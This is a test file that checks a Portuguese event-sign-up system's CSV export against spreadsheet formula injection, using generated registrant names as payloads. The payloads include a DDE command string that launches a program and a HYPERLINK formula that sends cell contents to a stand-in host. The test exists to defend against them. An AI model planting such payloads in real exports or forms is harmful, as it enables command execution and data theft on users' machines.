import { expect, test } from 'vitest';
import { inscricoes } from '../../src/features/inscricoes/tables.server.ts';
import { csv } from '../../src/server/api/csv.ts';
import { call } from './call.ts';
import { record } from './report.ts';
import { signUpForm } from './signUps.ts';
import { eventAt, villageFor } from './villageFor.ts';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const ends = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://mau.example?"&A1;"clique")',
  'SUM(1,2);=1+1',
  'x","=1+1',
  'x";"=1+1',
];
const wraps = [
  '',
  ' ',
  '"',
  "'",
  ';',
  ',',
  'Ana;',
  'Ana,',
  'Ana\t',
  'Ana\n',
  'Ana\r',
  '\u00a0',
  '\u200b',
];
const names = starts.flatMap((start) =>
  ends.flatMap((end) => wraps.map((wrap) => `${wrap}${start}${end}`)),
);

/** Reads CSV as a spreadsheet does: drops the byte order mark, and keeps quoted text in one cell. */
function readSheet(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    rows.at(-1)?.push(cell);
    cell = '';
  };
  const letters = [...text.replace(/^\ufeff/, '')];
  for (let at = 0; at < letters.length; at++) {
    const letter = letters[at] ?? '';
    if (quoted) {
      if (letter !== '"') cell += letter;
      else if (letters[at + 1] === '"') cell += letters[at++];
      else quoted = false;
    } else if (letter === '"' && cell === '') quoted = true;
    else if (letter === separator) endCell();
    else if (letter === '\n') {
      endCell();
      rows.push([]);
    } else if (letter !== '\r') cell += letter;
  }
  endCell();
  return rows;
}

const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell);

/** Finds formulas, with the semicolon as separator, as in Portugal, and with the comma. */
function formulasIn(text: string): string[] {
  return [';', ','].flatMap((separator) => readSheet(text, separator).flat().filter(isFormula));
}

test('no cell of an export is a formula', async () => {
  const { url, store, office } = await villageFor('sqlite');
  const { _id, identifier } = await eventAt(office, 10_000);
  let booked = 0;
  for (const [number, name] of names.entries()) {
    const form = { ...signUpForm(_id, number), name };
    const { status } = await office.send('POST', '/api/inscricoes/balcao', form);
    expect([201, 422]).toContain(status);
    if (status === 201) booked += 1;
  }
  // Some are cancelled, which fills more cells of their rows.
  for (const { segredo } of (await store.list(inscricoes)).slice(0, 20)) {
    expect((await call('DELETE', `${url}/api/reservas/${segredo}`)).status).toBe(200);
  }
  const path = `/api/noticiasEventos/backoffice/${identifier}/inscricoes.csv`;
  const sheet = await office.send('GET', path);
  const rows = readSheet(sheet.body, ';').filter((row) => row.length > 1);
  const formulas = formulasIn(sheet.body);
  const typed = formulasIn(csv(names.map((name) => [name, 1, 'fim'])));
  // Control: in unguarded text the reader does find formulas.
  expect(formulasIn(names.join('\n')).length).toBeGreaterThan(100);
  record({
    promise: 'Exports are safe',
    proof: `${names.length} names made of ${starts.length} dangerous beginnings, ${booked} of them booked and exported`,
    reached: `${formulas.length + typed.length} formulas in ${rows.length * (rows[0]?.length ?? 0) + names.length * 3} cells, read with semicolons and with commas`,
    promised: '0 formulas',
    ok: formulas.length + typed.length === 0 && rows.length === booked + 1 && booked > 500,
  });
});
